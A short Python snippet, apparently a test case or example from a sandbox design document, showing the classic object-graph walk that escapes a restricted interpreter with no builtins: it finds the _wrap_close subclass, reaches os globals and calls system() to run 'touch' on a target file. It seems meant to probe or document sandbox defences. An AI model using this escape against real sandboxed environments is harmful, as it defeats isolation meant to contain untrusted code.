# The object-graph walk in allow mode with zero builtins (§5.8).
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == '_wrap_close':
        c.__init__.__globals__['system']('touch ' + target)
